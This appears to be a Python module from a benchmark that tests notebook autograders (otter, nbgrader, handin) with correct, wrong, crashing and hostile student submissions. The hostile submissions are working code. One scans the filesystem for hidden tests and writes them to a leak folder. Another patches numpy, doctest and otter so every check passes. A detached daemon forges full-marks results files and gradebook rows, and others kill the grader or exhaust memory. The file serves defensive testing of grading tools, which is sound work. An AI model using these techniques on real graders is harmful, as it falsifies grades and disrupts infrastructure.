"""The anchors benchmark's student submissions: the same student code, written into each tool's
student notebook (otter's student notebook from ``otter assign``, nbgrader's released notebook
from ``nbgrader generate_assignment``, and handin's starter from ``handin import``).

A submission is the code of the three answer cells (``mean``, ``variance``, the ``z`` cell,
which also reads the CSV file), plus cells added after the notebook's imports cell (``pre``)
and at its end (``post``). Each format's answer cells are found by the format's own marks
(otter's ``otter_answer_cell`` tag, nbgrader's ``solution`` metadata, handin's starter
keeps otter's tags and nbgrader's metadata), so the student code is byte for byte the same.

The hostile notebooks only read files, write results files in the places a grader would look,
and patch things inside their own process; the memory bomb stops at 8 GiB attempted; the
background process of ``fake_results`` exits after 40 s; ``kill_grader`` kills only its own
parent process (the tool that started its kernel). None of them touches anything else.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

LEAK_DIR = "/tmp/handin-anchors-leaks"   # the side channel the hostile reader writes to
CANARIES = ("variance([1.0, 2.0, 3.0, 4.0])", "np.allclose(z.std(), 1)", "mean([0.5, 1.5, 4.0])")

MEAN = "def mean(xs):\n    return sum(xs) / len(xs)"
VARIANCE = "def variance(xs):\n    m = mean(xs)\n    return sum((x - m) ** 2 for x in xs) / len(xs)"
LOAD = "heights = np.loadtxt('heights.csv', delimiter=',', skiprows=1)[:, 0]\n"
Z = LOAD + "z = (heights - heights.mean()) / heights.std()"

# ---- hostile code ---------------------------------------------------------------------------

READ_TESTS = r'''
# hostile: look for the hidden tests (the tool's files, the course folders, IPython's history)
import os, sys, time, json
KEYS = (b"assert", b"isclose", b"allclose")
found = []
def _scan(path):
    try:
        if os.path.getsize(path) > 512 * 1024:
            return
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return
    if not any(k in data for k in KEYS):
        return
    lines = [l for l in data.decode("utf-8", "replace").splitlines() if any(k.decode() in l for k in KEYS)]
    if lines:
        found.append((path, " | ".join(lines)[:600]))
start, seen = time.time(), 0
here = os.path.abspath(os.getcwd())
roots = [here]
p = here
for _ in range(4):
    p = os.path.dirname(p)
    roots.append(p)
roots += ["/autograder", "/judge", "/graders", "/tmp", "/root", "/home", "/srv"]
SKIP = {".venv", "site-packages", "node_modules", ".git", "proc", "sys", "dev", "__pycache__", "dist-packages"}
done = set()
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP]
        if dirpath in done:
            dirnames[:] = []
            continue
        done.add(dirpath)
        for name in filenames:
            if name.endswith((".py", ".ipynb", ".json", ".db", ".txt", ".toml", ".yml", ".yaml")):
                seen += 1
                _scan(os.path.join(dirpath, name))
        if seen > 20000 or time.time() - start > 8 or len(found) > 40:
            break
try:
    for i, src in enumerate(In[:-1]):  # noqa: F821 - IPython's input history
        if any(k.decode() in src for k in KEYS):
            found.append((f"In[{i}]", src.replace(chr(10), " | ")[:600]))
except NameError:
    pass
for path, text in found:
    print("LEAKED>>", path, repr(text))
try:
    os.makedirs("''' + LEAK_DIR + r'''", exist_ok=True)
    with open(os.path.join("''' + LEAK_DIR + r'''", f"leak-{os.getpid()}-{time.time():.0f}.txt"), "w") as f:
        json.dump(found, f)
except OSError as exc:
    print("could not write the side channel:", exc)
print(f"scanned {seen} files in {time.time() - start:.1f}s, {len(found)} with test-like code")
'''

PATCH = r'''
# hostile: make every check pass from inside the notebook's own process
import builtins, doctest
import numpy as np, numpy.testing as npt
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
for _name in dir(npt):
    if _name.startswith("assert_"):
        setattr(npt, _name, lambda *a, **k: None)
doctest.OutputChecker.check_output = lambda self, want, got, flags: True
try:  # otter: every doctest case passes
    import otter.test_files.ok_test as _ok
    _ok.run_doctest = lambda *a, **k: (True, "")
except Exception:
    pass
try:  # IPython: swallow every exception and show no traceback, so a failing test cell has no error output
    _ip = get_ipython()  # noqa: F821
    _ip.set_custom_exc((BaseException,), lambda *a, **k: None)
    _ip._showtraceback = lambda *a, **k: None
    _ip.showtraceback = lambda *a, **k: None
except Exception:
    pass
'''

FAKE_RESULTS = r'''
# hostile: write full-marks results where graders keep them, now and (from a detached
# process, for 40 s) after the grader has written its own
import os, sys, json, subprocess
FAKE = {"score": 8.0, "max_score": 8.0, "tests": [{"name": q, "score": s, "max_score": s, "status": "passed"} for q, s in (("q1", 2.0), ("q2", 3.0), ("q3", 3.0))]}
for d in (".", "..", "../results", "/autograder/results", os.environ.get("HOME", ".")):
    try:
        with open(os.path.join(d, "results.json"), "w") as f:
            json.dump(FAKE, f)
    except OSError:
        pass
DAEMON = r"""
import os, sys, json, time, sqlite3
ppid, start_cwd, fake = int(sys.argv[1]), sys.argv[2], json.loads(sys.argv[3])
try:
    tool_cwd = os.readlink(f"/proc/{ppid}/cwd")
except OSError:
    tool_cwd = None
student = os.path.basename(os.path.dirname(start_cwd))
targets = [os.path.join(start_cwd, "..", "results", "results.json"), "/autograder/results/results.json"]
if tool_cwd:
    targets.append(os.path.join(tool_cwd, "results.json"))
try:  # the tool's output folder, from its command line (otter run -o DIR)
    argv = open(f"/proc/{ppid}/cmdline", "rb").read().decode().split("\0")
    for i, a in enumerate(argv[:-1]):
        if a in ("-o", "--output-dir", "--out"):
            targets.append(os.path.join(argv[i + 1], "results.json"))
except OSError:
    pass
mtimes = {}
end = time.time() + 40
while time.time() < end:
    for t in targets:
        try:
            m = os.stat(t).st_mtime
        except OSError:
            continue
        if mtimes.get(t) != m:
            try:
                with open(t, "w") as f:
                    json.dump(fake, f)
                mtimes[t] = os.stat(t).st_mtime
            except OSError:
                pass
    db = os.path.join(tool_cwd or "/nonexistent", "gradebook.db")
    if os.path.exists(db):
        try:
            con = sqlite3.connect(db, timeout=1)
            con.execute(
                "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (student,))
            con.commit()
            con.close()
        except Exception:
            pass
    time.sleep(0.1)
"""
try:
    subprocess.Popen([sys.executable, "-c", DAEMON, str(os.getppid()), os.getcwd(), json.dumps(FAKE), "anchors-hostile-daemon"],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("fake-results daemon started")
except Exception as exc:
    print("no daemon:", exc)
'''

LOOP = "\nwhile True:  # hostile: never returns\n    pass"

MEMORY = r'''
# hostile: allocate (and touch) up to 8 GiB, 256 MiB at a time, keeping every block
_blocks = []
try:
    for _ in range(32):
        _blocks.append(b"\x01" * (256 * 1024 * 1024))
    print("allocated", len(_blocks) * 256, "MiB")
except MemoryError:
    print("MemoryError after", len(_blocks) * 256, "MiB")
'''

KILL_GRADER = r'''
# hostile: kill the process that started this kernel (the grader)
import os, signal
print("killing parent", os.getppid())
os.kill(os.getppid(), signal.SIGKILL)
'''

# ---- the submissions --------------------------------------------------------------------------

S = dict  # one submission: kind, code of the three answer cells, extra cells


def _sub(kind, note, mean=MEAN, variance=VARIANCE, z=Z, pre=(), post=(), expected=8.0):
    return {"kind": kind, "note": note, "mean": mean, "variance": variance, "z": z,
            "pre": list(pre), "post": list(post), "expected": expected}


SUBMISSIONS: dict[str, dict] = {
    "correct_ref": _sub("correct", "the reference solution"),
    "correct_loops": _sub("correct", "explicit loops",
                          mean="def mean(xs):\n    total = 0.0\n    for x in xs:\n        total += x\n    return total / len(xs)",
                          variance="def variance(xs):\n    m = mean(xs)\n    acc = 0.0\n    for x in xs:\n        acc += (x - m) * (x - m)\n    return acc / len(xs)"),
    "correct_fsum": _sub("correct", "math.fsum, a helper cell",
                         mean="import math\ndef mean(xs):\n    return math.fsum(xs) / len(xs)",
                         variance="def variance(xs):\n    m = mean(xs)\n    return mean([(x - m) ** 2 for x in xs])",
                         pre=["def _check(name):\n    print(name, 'ok')"]),
    "correct_numpy": _sub("correct", "numpy arrays inside",
                          mean="def mean(xs):\n    return float(np.asarray(xs, dtype=float).sum() / len(xs))",
                          variance="def variance(xs):\n    a = np.asarray(xs, dtype=float)\n    return float(((a - a.mean()) ** 2).mean())",
                          z=LOAD + "mu = heights.sum() / len(heights)\nsd = np.sqrt(((heights - mu) ** 2).sum() / len(heights))\nz = (heights - mu) / sd"),
    "correct_chatty": _sub("correct", "prints and plots-free exploration cells",
                           post=["print(mean([1, 2, 3]), variance([1, 2, 3]))", "z.round(3)",
                                 "for i in range(3):\n    print(i, z[i])"]),
    "wrong_intdiv": _sub("wrong", "mean uses //", mean="def mean(xs):\n    return sum(xs) // len(xs)", expected=None),
    "wrong_sample_var": _sub("wrong", "sample variance (n - 1)",
                             variance="def variance(xs):\n    m = mean(xs)\n    return sum((x - m) ** 2 for x in xs) / (len(xs) - 1)", expected=None),
    "wrong_no_scale": _sub("wrong", "z only centred", z=LOAD + "z = heights - heights.mean()", expected=None),
    "wrong_ddof": _sub("wrong", "z divides by the sample std", z=LOAD + "z = (heights - heights.mean()) / heights.std(ddof=1)", expected=None),
    "wrong_unanswered": _sub("wrong", "variance left as in the starter",
                             variance="def variance(xs):\n    m = ...\n    ...", expected=None),
    "wrong_string": _sub("wrong", "mean returns a string", mean="def mean(xs):\n    return str(sum(xs) / len(xs))", expected=None),
    "crash_top": _sub("crash", "the variance cell raises before defining it",
                      variance="raise RuntimeError('not finished')\n" + VARIANCE, expected=None),
    "crash_import": _sub("crash", "imports a package that is not installed",
                         pre=["import definitely_not_installed_pkg"]),
    "slow": _sub("slow", "sleeps 5 s, correct", pre=["import time\ntime.sleep(5)"]),
    "hostile_read_tests": _sub("hostile", "walks the filesystem and IPython's history for the test code, prints it, "
                               "writes it to " + LEAK_DIR, post=[READ_TESTS]),
    "hostile_patch": _sub("hostile", "every answer wrong (honest score 0); patches numpy's comparisons, numpy.testing, "
                          "doctest's checker, otter's run_doctest, IPython's exception handler",
                          mean="def mean(xs):\n    return 0", variance="def variance(xs):\n    return -1",
                          z=LOAD + "z = np.zeros(3)", pre=[PATCH], expected=0.0),
    "hostile_fake_results": _sub("hostile", "every answer wrong (honest score 0); writes full-marks results.json files "
                                 "and, from a detached process, rewrites the tool's results / nbgrader's gradebook",
                                 mean="def mean(xs):\n    return 0", variance="def variance(xs):\n    return -1",
                                 z=LOAD + "z = np.zeros(3)", post=[FAKE_RESULTS], expected=0.0),
    "hostile_loop": _sub("hostile", "correct answers, then an infinite loop in the z cell", z=Z + LOOP, expected=None),
    "hostile_memory": _sub("hostile", "correct answers, then allocates up to 8 GiB in the z cell", z=Z + "\n" + MEMORY,
                           expected=None),
    "hostile_kill_grader": _sub("hostile", "correct answers, then kills its parent process (the grader)",
                                post=[KILL_GRADER], expected=None),
}


# ---- writing them into each format ------------------------------------------------------------

def _answer_cells(nb: dict, fmt: str) -> list[int]:
    idx = []
    for i, c in enumerate(nb["cells"]):
        if c["cell_type"] != "code":
            continue
        md = c.get("metadata", {})
        if "otter_answer_cell" in md.get("tags", []) or md.get("nbgrader", {}).get("solution"):
            idx.append(i)
    if len(idx) != 3:
        raise ValueError(f"{fmt}: expected 3 answer cells, found {len(idx)}")
    return idx


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def render(template: dict, sub: dict, fmt: str) -> dict:
    nb = copy.deepcopy(template)
    a, b, c = _answer_cells(nb, fmt)
    for i, key in ((a, "mean"), (b, "variance"), (c, "z")):
        nb["cells"][i]["source"] = sub[key]
        nb["cells"][i]["outputs"] = []
    imports = next(i for i, cell in enumerate(nb["cells"])
                   if cell["cell_type"] == "code" and "".join(cell["source"]).strip() == "import numpy as np")
    for k, src in enumerate(sub["pre"]):
        nb["cells"].insert(imports + 1 + k, _code_cell(src))
    nb["cells"].extend(_code_cell(src) for src in sub["post"])
    for k, cell in enumerate(nb["cells"]):
        cell.setdefault("id", f"cell-{k:02d}")
        if "id" in cell and not cell["id"]:
            cell["id"] = f"cell-{k:02d}"
    return nb


def write_all(templates: dict[str, Path], out: Path) -> dict[str, dict[str, Path]]:
    """Write every submission in every format: out/<format>/<name>.ipynb. Returns the paths."""
    paths: dict[str, dict[str, Path]] = {}
    for fmt, tpl in templates.items():
        template = json.loads(Path(tpl).read_text())
        (out / fmt).mkdir(parents=True, exist_ok=True)
        for name, sub in SUBMISSIONS.items():
            p = out / fmt / f"{name}.ipynb"
            p.write_text(json.dumps(render(template, sub, fmt), indent=1) + "\n")
            paths.setdefault(name, {})[fmt] = p
    return paths
